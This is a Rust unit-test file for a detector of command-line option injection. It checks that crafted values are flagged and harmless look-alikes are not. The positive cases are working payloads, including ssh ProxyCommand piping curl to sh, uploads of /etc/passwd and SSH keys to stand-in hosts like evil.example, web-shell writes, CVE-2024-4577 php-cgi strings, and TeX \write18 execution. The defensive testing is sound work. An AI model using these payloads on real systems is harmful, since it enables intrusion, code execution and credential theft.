    use super::{ghostscript_pipe, option_injection, soft_hyphen_options, spells_soft_hyphen};

    #[test]
    fn soft_hyphen_found_in_short_and_long_values() {
        // The definition the two passes implement: `%` then `ad` in any case, or `C2 AD`.
        let spelled = |v: &[u8]| {
            v.windows(3)
                .any(|w| w[0] == b'%' && w[1..].eq_ignore_ascii_case(b"ad"))
                || v.windows(2).any(|w| w == b"\xC2\xAD")
        };
        let pieces: [&[u8]; 10] = [
            b"%", b"%a", b"%AD", b"%aD", b"%2e", b"a", b"d", b"\xC2", b"\xAD", b"x ",
        ];
        let mut x: u32 = 1;
        for len in [1, 2, 3, 5, 40, 90, 120, 200] {
            for _ in 0..400 {
                let mut v = Vec::new();
                for _ in 0..len {
                    x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
                    v.extend_from_slice(pieces[(x >> 16) as usize % pieces.len()]);
                }
                assert_eq!(spells_soft_hyphen(&v), spelled(&v), "{v:?}");
            }
        }
    }

    fn injects(v: &str) -> bool {
        option_injection(v.as_bytes()) || soft_hyphen_options(v.as_bytes())
    }

    #[test]
    fn options_that_run_commands() {
        for v in [
            "-oProxyCommand=id",
            "-oProxyCommand=\"sh -c id\" x",
            "-o ProxyCommand=curl evil.tld|sh",
            "host -o 'LocalCommand=id'",
            "--upload-pack=touch /tmp/pwn",
            "x' --receive-pack='id'",
            "-c core.sshCommand='id' ",
            "--config=core.fsmonitor=id",
            "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
            "--use-compress-program=sh",
            "--rsh=sh -c id",
            "-T -TT 'sh #'",
            "a@b.c -X/var/www/html/shell.php",
            "-X /tmp/x.php -OQueueDirectory=/tmp",
            "x -exec cat /etc/shadow {} +",
            "-exec id ;",
            "--gpu-launcher=\"bash -c id\"",
            "--open-files-in-pager=id;",
            "-c diff.external=id",
            "-toolexec=id",
            // Options named for a program, given one.
            "--command=id",
            "--compress-program=sh",
            "--post-cmd=/bin/bash",
            "x --diff_cmd=whoami",
            // A download tool told to write a server-side script into a directory.
            "http://evil.example/s.txt -o /var/www/html/s.php",
            "-O ../uploads/shell.jsp",
            "--output-document=/srv/www/x.aspx",
            "-o/tmp/x.php",
            "x -o/var/www/html/s.php http://evil.example/s.txt",
            // A page into a served directory, a template the application renders.
            "-o /usr/share/nginx/html/x.html http://203.0.113.19/x.html",
            "-o /app/views/layout.ejs",
            "--output=/srv/app/templates/base.j2 http://x.test/t",
            "-w \"%{url_effective}\" -o /app/static/x.js http://203.0.113.139/x.js",
            "--preprocessor=sh",
            "--exec-path=/tmp",
            "--exec-path=/dev/shm/x",
            "x --exec-path=/var/tmp/",
            // Options named for a program, pager, editor or filter; a config key that names
            // a program; a config file from a scratch directory; a download into /etc.
            "-u core.pager=id",
            "-c sequence.editor=id",
            "--pager='!id'",
            "--interactive --command=!id",
            "--index-filter='id'",
            "--tree-filter=/tmp/x",
            "-K /tmp/evil.conf",
            "-F /tmp/evil_config",
            "--output-document=/etc/cron.d/x",
            "-o /root/.ssh/authorized_keys",
            "-e sh x:/tmp",
            "-e /bin/bash",
            "--post-file=/etc/passwd http://evil.example/",
            "--body-file=~/.ssh/id_rsa https://x.example/",
            "http://198.51.100.23/up --post-file /var/www/.env",
            "-f attacker@example.com -C/tmp/payload.conf",
            "-K/dev/shm/x.curlrc",
            // `$IFS` splits words as a blank does.
            "name$IFS-oProxyCommand=id",
            "a${IFS}--upload-pack=id",
            // Any long option handed a shell or an interpreter alone.
            "--pre=sh",
            "--exec-hook=bash",
            "--foo=/bin/sh",
            "x --pre='/usr/bin/zsh'",
            "--run=python3",
            "--pre sh",
        ] {
            assert!(option_injection(v.as_bytes()), "{v}");
        }
        for v in ["-sOutputFile=%pipe%id", "(%pipe%id) (w) file"] {
            assert!(ghostscript_pipe(v.as_bytes()), "{v}");
        }
        assert!(!ghostscript_pipe(b"100%pipe% clean"));
    }

    #[test]
    fn ordinary_options_and_dashes() {
        for v in [
            "-o output.txt",
            "-o report.html",
            "-o views/layout.ejs.bak.txt",
            "-o public-notes.txt",
            "--exec",
            "--exec-path=/usr/lib/git-core",
            "--exec-path",
            "--preprocessor=babel",
            "--exec-path=/tmpfiles",
            "well-known -exec",
            "see ProxyCommand in ssh_config",
            "ssh-o ProxyCommand",
            "--checkpoint-action=dot",
            "-c core.autocrlf=true",
            "--config=user.name=Ann",
            "-X",
            "-Xmx512m",
            "-TT",
            "100%pipe% clean",
            "2024-05-01 -- 2024-06-01",
            "re-exec the job",
            "-execute order 66",
            "pros -exec cons",
            "$ find . -name '*.py' -exec cat \\{} \\; | wc -l",
            "--exec \"before_dl:CMD\"",
            "--command=build",
            "--program=chemistry",
            "--recommand=id",
            "-o output.php",
            "-o /tmp/report.pdf",
            "-o/tmp/report.pdf",
            "-ooutput.php",
            "--output=/var/www/html/index.html",
            "$IFS-o",
            "--filter=price",
            "--filter=date",
            "-e mail@example.com",
            "-e shell",
            "--output=json",
            "--pager=on",
            "-u user.name=Ann",
            "-K /home/me/.curlrc",
            "-c /tmp/report.pdf",
            "-pre=x",
            "-s bash",
            "--config-file=/etc/app.conf",
            "--post-file=data.json http://api.example/",
            "--post-file /var/www/site/report.csv http://api.example/",
            "-C/home/me/project",
            // Options naming a kind of thing, not a program; a shell as a sentence's word.
            "--shell=zsh",
            "--lang=sh",
            "--type=sh",
            "--syntax=bash",
            "--python=python3.11",
            "--ext=sh",
            "--pre sh files",
            "--verbose bash users",
            "--pre=shell",
            "--out=sh/",
        ] {
            assert!(!option_injection(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn options_that_load_or_run_code() {
        for v in [
            // php-cgi argv from a query string: an ini override that includes code.
            "-d allow_url_include=1 -d auto_prepend_file=php://input",
            "-d+auto_prepend_file=php://input",
            "-d xdebug.remote_enable=1 -d auto_prepend_file=/tmp/x",
            "-dextension=/tmp/evil.so",
            // Ghostscript's sandbox turned off.
            "-dSAFER=false",
            "-dNOSAFER -sDEVICE=pdfwrite",
            "-q -dDELAYSAFER",
            // JVM agents and debuggers.
            "-Xdebug -agentlib:jdwp=transport=dt_socket,server=y",
            "-javaagent:/tmp/a.jar",
            "-agentpath:/tmp/libx.so",
            "-Xrunjdwp:transport=dt_socket,address=8000",
            // TeX shell escape in an argument list.
            "--shell-escape",
            "-output-directory=/tmp --shell-escape",
            "--pdf-engine-opt=--shell-escape",
            "--pdf-engine-opt=-enable-write18",
            // gcc's program prefix and wrapper.
            "-fsanitize-coverage=x -Wl,--wrap=main -B/tmp/",
            "-O2 -B ./evil/",
            "-O2 -wrapper sh,-c,id",
            // An option that runs its argument, given a command.
            "--local-dir=/ --exec id",
            "--postprocessor-args='-exec id'",
            "-c id",
            "-c whoami",
            "--pdf-engine=/tmp/x",
            "--script=/tmp/x.nse 127.0.0.1",
            // CVE-2024-4577: soft hyphens a Windows code page turns into dashes.
            "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
            "\u{ad}d allow_url_include=1 \u{ad}d auto_prepend_file=php://input",
        ] {
            assert!(injects(v), "{v}");
        }
    }

    #[test]
    fn options_that_look_like_code_loading() {
        for v in [
            "curl -d 'a=1'",
            "-d 'a=1'",
            "-d user_name=bob",
            "date -d tomorrow",
            "-d tomorrow",
            "-dSAFER",
            "-dSAFER=true",
            "-Xmx2g -Xms512m",
            "-Xdebug",
            "-XX:+UseG1GC",
            "Compile with pdflatex --shell-escape if you use minted",
            "the --shell-escape flag lets LaTeX run commands",
            "--shell-escape-mode",
            "grep -B 3 error",
            "-B 3",
            "make -B all",
            "--exec is the option that runs a command",
            "use --exec id to test",
            "-c 5",
            "-c config.yml",
            "-c id card",
            "--pdf-engine=xelatex",
            "--script=default 127.0.0.1",
            "--script=/usr/share/nmap/scripts/http-title.nse",
            "--pdf-engine=/usr/bin/xelatex",
            "-wrapper",
            "-exec",
            "-c",
            "-d",
            "caf%AD d allow=1",
            "%ADd tomorrow",
            "\u{ad}d a=1",
        ] {
            assert!(!injects(v), "{v}");
        }
    }

    #[test]
    fn write_eval_config_options() {
        use super::option_injection;
        for v in [
            r#"x.svg" -write /var/www/html/shell.php ""#,
            "-write msl:/tmp/a.msl",
            r#"a.png" -write "msl:/tmp/x.msl"#,
            r#"--eval='(shell-command "id")'"#,
            r#"--eval "(call-process \"sh\" nil t nil \"-c\" \"id\")""#,
            "exiftool -config evil.pl",
            "x.jpg -config /tmp/a.pm",
        ] {
            assert!(option_injection(v.as_bytes()), "{v}");
        }
        for v in [
            "please -write a review of the product",
            "-write out.png",
            "x.png -write thumbnails/small.png",
            "use --eval to evaluate an expression",
            "--eval='(org-html-export-to-html)'",
            "--eval (message \"hi\")",
            "-config app.yaml",
            "set -config to your settings file",
        ] {
            assert!(!option_injection(v.as_bytes()), "{v}");
        }
    }

    /// Round 34: options that read or write a file the value chooses, with no shell syntax.
    #[test]
    fn file_choosing_options() {
        for v in [
            "http://x --upload-file /etc/passwd",
            "https://a.example/u -T /etc/shadow",
            "-T /root/.ssh/id_rsa ftp://evil.example/",
            "/ -fprint /var/www/html/x",
            "/tmp -fprintf /var/www/html/s.php '<?php system($_GET[c]); ?>'",
            "/ -fls /etc/cron.d/x",
            ". -fprint0 /srv/www/site/list",
        ] {
            assert!(injects(v), "{v}");
        }
        for v in [
            "--upload-file report.pdf http://x",
            "-T notes.txt https://share.example/",
            "--upload-file /etc/passwd",
            ". -fprint out.txt",
            "-fprint is a find action",
            "http://x -o page.html",
            "http://x -o /tmp/page.html",
        ] {
            assert!(!injects(v), "{v}");
        }
    }

    #[test]
    fn tex_shell_write() {
        use super::tex_write18;
        for v in [
            r"\immediate\write18{id}",
            r"\write18{curl http://x/s|sh}",
            r"\write18 {whoami}",
            r#"\write18{"id"}"#,
        ] {
            assert!(tex_write18(v.as_bytes()), "{v}");
        }
        for v in [
            r"\write18 is disabled by default",
            r"\write18{}",
            r"\write1{id}",
            r"\immediate\write\outfile{text}",
            r"\write18{Hello world}",
            r"\write18",
        ] {
            assert!(!tex_write18(v.as_bytes()), "{v}");
        }
    }
}
